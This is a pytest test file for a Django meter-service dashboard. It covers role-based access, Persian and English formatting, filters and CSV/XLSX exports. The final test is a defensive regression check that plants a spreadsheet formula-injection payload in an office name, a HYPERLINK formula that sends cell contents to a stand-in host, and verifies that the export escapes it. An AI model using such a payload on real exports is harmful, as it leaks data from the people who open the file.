"""The dashboard page and its exports: who may see them, the filter, CSV and XLSX files."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from openpyxl import load_workbook

from apps.meter_service.permissions import Role
from tests.dashboards.conftest import TAKESTAN

pytestmark = pytest.mark.django_db

PAGE = reverse("dashboards:page")
CSV = reverse("dashboards:export", args=["csv"])
XLSX = reverse("dashboards:export", args=["xlsx"])
RANGE_QUERY = {"date_from": "1403/01/01", "date_to": "1403/03/31"}

ALLOWED = {Role.SERVICE_MANAGER, Role.SYSTEM_ADMIN}
DESK_DENIED = [
    Role.SERVICE_DESK_CLERK,
    Role.TECHNICIAN,
    Role.EMERGENCY_CREW,
    Role.BILLING_OFFICER,
    Role.COMPLAINTS_OFFICER,
]
OUTSIDE = [Role.SUBSCRIBER, Role.COUNTER_OFFICE_OPERATOR, Role.AGENCY_CLIENT, Role.IVR_CLIENT]


@pytest.fixture
def manager(make_user):
    return make_user(Role.SERVICE_MANAGER)


@pytest.mark.parametrize("role", sorted(ALLOWED))
def test_managers_and_admins_see_the_dashboard(client, make_user, role):
    client.force_login(make_user(role))
    assert client.get(PAGE).status_code == 200
    assert client.get(CSV).status_code == 200
    assert client.get(XLSX).status_code == 200


@pytest.mark.parametrize("role", DESK_DENIED)
def test_other_desk_roles_are_refused(client, make_user, role):
    client.force_login(make_user(role))
    for url in (PAGE, CSV, XLSX):
        assert client.get(url).status_code == 403, url
    # Nor is the dashboard in their sidebar.
    assert PAGE not in client.get(reverse("admin:index")).content.decode()


@pytest.mark.parametrize("role", OUTSIDE)
def test_roles_outside_the_desk_are_sent_to_the_login(client, make_user, role):
    client.force_login(make_user(role))
    for url in (PAGE, CSV):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))


def test_anonymous_and_superuser(client, roles):
    response = client.get(PAGE)
    assert response.status_code == 302 and reverse("admin:login") in response["Location"]
    root = User.objects.create_superuser("root", password="x")
    client.force_login(root)
    assert client.get(PAGE).status_code == 200


def test_manager_sees_the_link_in_the_sidebar(client, manager):
    client.force_login(manager)
    assert PAGE in client.get(reverse("admin:index")).content.decode()


def test_page_shows_the_figures_in_persian(client, manager, data):
    client.force_login(manager)
    response = client.get(PAGE, RANGE_QUERY)
    assert response.status_code == 200
    text = response.content.decode()
    # 11 claims; average 15.6 h, 90th percentile 30 h, 80 % within target (see test_selectors).
    assert 'id="kpi-claims">۱۱<' in text
    assert "۱۵٫۶" in text and "۳۰٫۰" in text and "۸۰٫۰٪" in text
    # Jalali months, and the fees with Persian separators: 10,118,000 Rial collected.
    assert "فروردین ۱۴۰۳" in text and "خرداد ۱۴۰۳" in text
    assert "۱۰٬۱۱۸٬۰۰۰" in text
    assert "دفتر پیشخوان مرکزی" in text


def test_english_page_uses_the_english_percent_sign(client, manager, data):
    client.force_login(manager)
    client.cookies["meter_language"] = "en"
    text = client.get(PAGE, RANGE_QUERY).content.decode()
    assert "80.0%" in text and "٪" not in text


def test_filter_by_office_and_city(client, manager, data):
    client.force_login(manager)
    office = data["offices"]["O1"].pk
    response = client.get(PAGE, {**RANGE_QUERY, "office": office})
    assert response.context["filter"].office_id == office
    assert 'id="kpi-claims">۲<' in response.content.decode()
    response = client.get(PAGE, {**RANGE_QUERY, "city": TAKESTAN})
    assert 'id="kpi-claims">۳<' in response.content.decode()


def test_bad_filter_is_refused_with_a_translated_message(client, manager, data):
    client.force_login(manager)
    response = client.get(PAGE, {"date_from": "1403/13/40", "date_to": "1403/01/01"})
    assert response.status_code == 200
    assert "تاریخ معتبر وارد کنید" in response.content.decode()
    # Nothing is filtered by a bad form: the default range (the last twelve months) shows.
    assert response.context["filter"].date_to is not None
    client.cookies["meter_language"] = "en"
    reversed_range = {"date_from": "2024-05-01", "date_to": "2024-04-01"}
    response = client.get(PAGE, reversed_range)
    assert "The start date is after the end date." in response.content.decode()
    # The export refuses it outright.
    export = client.get(CSV, reversed_range)
    assert export.status_code == 400
    assert export.content.decode() == "The start date is after the end date."
    assert client.get(CSV, {"figure": "nonsense"}).status_code == 400
    assert client.get(reverse("dashboards:export", args=["pdf"])).status_code == 404


def _csv(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_csv_of_one_figure(client, manager, data):
    client.force_login(manager)
    response = client.get(CSV, {**RANGE_QUERY, "figure": "claims_by_channel"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = _csv(response)
    # Persian labels from the catalogue, ASCII numbers for spreadsheets.
    assert rows[1:3] == [["وب\u200cسایت", "6"], ["دفتر پیشخوان", "3"]]
    assert [r[1] for r in rows[1:]] == ["6", "3", "1", "0", "1"]


def test_csv_of_everything_has_a_section_per_figure(client, manager, data):
    client.cookies["meter_language"] = "en"
    client.force_login(manager)
    rows = _csv(client.get(CSV, {"date_from": "2024-03-20", "date_to": "2024-06-20"}))
    titles = [r[0] for i, r in enumerate(rows) if len(r) == 1 and (i == 0 or rows[i - 1] == [])]
    assert len(titles) == 15
    assert titles[0] == "Claims by channel"
    # The service-time section: 5 closed claims, 15.6 h average, 30 h p90, 24 h target.
    index = rows.index(["Service time (working hours)"])
    assert rows[index + 1] == ["Closed claims", "Average", "90th percentile", "Target"]
    assert rows[index + 2] == ["5", "15.6", "30.0", "24.0"]
    index = rows.index(["Bill corrections (Rial)"])
    assert rows[index + 2] == ["Credits to subscribers", "0", "0"]


def test_xlsx_has_a_sheet_per_figure(client, manager, data):
    client.cookies["meter_language"] = "en"
    client.force_login(manager)
    response = client.get(XLSX, {"date_from": "2024-03-20", "date_to": "2024-06-20"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    assert len(book.sheetnames) == 15
    sheet = book["fees"]
    assert not sheet.sheet_view.rightToLeft
    assert sheet["A1"].value == "Test fees (Rial)"
    values = {row[0]: row[2] for row in sheet.iter_rows(min_row=3, values_only=True)}
    assert values["Collected in total"] == 10_118_000
    assert values["Refunded"] == 1_650_000
    assert values["Collected less refunds"] == 8_468_000
    periods = list(book["claims_by_period"].iter_rows(min_row=3, values_only=True))
    assert [(p[0], p[1], p[3], p[4], p[5]) for p in periods] == [
        ("Farvardin 1403", "2024-03-20", 2, 2, 1),
        ("Ordibehesht 1403", "2024-04-20", 3, 3, 3),
        ("Khordad 1403", "2024-05-21", 6, 0, 0),
    ]


def test_xlsx_in_persian_reads_right_to_left(client, manager, data):
    client.force_login(manager)
    response = client.get(XLSX, {**RANGE_QUERY, "figure": "claims_by_period"})
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["claims_by_period"]
    sheet = book["claims_by_period"]
    assert sheet.sheet_view.rightToLeft
    assert sheet["A3"].value == "فروردین ۱۴۰۳"
    assert sheet["B3"].value == "۱۴۰۳/۰۱/۰۱"


def test_an_office_named_like_a_formula_is_exported_as_text(client, manager, data):
    """An office named =HYPERLINK(...) became a live formula in the XLSX and a raw cell in
    the CSV: a spreadsheet program would run it on the manager's machine."""
    from apps.meter_service.doctype.counter_office.models import CounterOffice

    formula = '=HYPERLINK("http://x.example/?d="&A1,"open")'
    CounterOffice.objects.filter(code="1001").update(name=formula)
    client.force_login(manager)
    query = {"date_from": "2024-03-20", "date_to": "2024-06-20", "figure": "office_performance"}
    cells = [cell for row in _csv(client.get(CSV, query))[1:] for cell in row]
    assert "'" + formula in cells and formula not in cells
    book = load_workbook(io.BytesIO(client.get(XLSX, query).content))
    sheet = book["office_performance"]
    office = next(
        cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value == formula
    )
    assert office.data_type == "s"
